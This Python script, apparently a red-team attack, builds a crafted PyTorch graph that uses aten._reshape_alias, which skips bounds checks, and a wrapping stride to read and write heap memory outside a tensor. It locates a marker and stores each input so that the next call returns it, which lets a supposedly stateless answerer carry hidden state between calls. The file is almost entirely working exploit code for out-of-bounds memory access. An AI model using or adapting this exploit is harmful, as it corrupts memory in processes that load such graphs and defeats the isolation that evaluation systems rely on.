"""A hand-made program that remembers across calls inside the answerer's interpreter.

Each call finds the ORIGINAL of a held tensor in the heap (out-of-bounds views by
aten._reshape_alias, which checks no bounds, and a wrapping stride for negative offsets; a marker
search; aten._local_scalar_dense turns the position into an int argument), reads what the
previous call stored there and stores the current question there (in-place copy_ into the alias).
Answer: one-hot logits of the PREVIOUS question, i.e. the answer is not a function of the question."""
import sys, torch; sys.path.insert(0, "/tmp/rt3/attacks")
from pg import G, I64, F32
R = 1 << 17                        # scan +-1 MiB around the clone
MARK = [0x51574152500 + 7 * i for i in range(8)]
S = 4096
N = 8 + S

def remember(g, c, store):
    """c: the clone node of the held tensor; store: an int64 node of S values to keep.
    Returns (prev, done): prev = what was stored by the previous call (int64 [S])."""
    v0 = g.op("_reshape_alias", c, [2], [(1 << 61) - R])
    v1 = g.op("slice.Tensor", v0, 0, 1, 2)                                   # storage offset wraps: R int64 before the clone
    W = g.op("_reshape_alias", v1, [2 * R], [1])                            # [clone - 8 MiB, clone + 8 MiB)
    shifts = g.op("_reshape_alias", W, [8, 2 * R - 8], [1, 1])              # row i = W[i:]
    # compare with MARK - 12345 (a held tensor that does not itself contain the marker)
    hit = g.op("eq.Scalar", g.op("sub.Tensor", shifts, g.tensor(torch.tensor(MARK).view(8, 1) - 12345)), 12345)
    m = g.op("all.dim", hit, 0)
    m = g.op("index_put", m, [g.op("arange.start", R, R + 1)], g.op("zeros", [1], dtype={"dtype": "bool"}))  # not the clone itself
    p = g.op("_local_scalar_dense", g.op("argmax", g.op("_to_copy", m, dtype={"dtype": "int32"})))
    st = g.op("_local_scalar_dense", g.op("add.Tensor", g.op("scalar_tensor", p, dtype=I64), 8))
    pair = g.op("_reshape_alias", W, [2, S], [st, 1])                       # row 1 = the original's slot
    now = g.op("clone", pair)
    prev = g.op("select.int", now, 0, 1)
    keep0 = g.op("select.int", now, 0, 0)
    done = g.op("copy_", pair, g.op("stack", [keep0, store]))              # row 0 unchanged, row 1 := this question
    return prev, done

if __name__ == "__main__":
    g = G()
    x = g.input()
    init = torch.zeros(N, dtype=torch.int64); init[:8] = torch.tensor(MARK)
    c = g.tensor(init)
    prev, done = remember(g, c, g.op("view", x, [S]))
    g.op("fill_.Scalar", g.op("slice.Tensor", c, 0, 0, 8), 0)               # wipe the clone's marker before it is freed
    prev2 = g.op("view", g.op("clamp", prev, 0, 255), [64, 64])
    logits = g.op("mul.Tensor", g.op("_to_copy", g.op("one_hot", prev2, 256), dtype=F32), 20.0)
    logits = g.op("add.Tensor", logits, g.op("mul.Scalar", g.op("sum", g.op("_to_copy", done, dtype=F32)), 0.0))
    g.output(logits)
    g.save(sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt3/attacks/persist.pt")
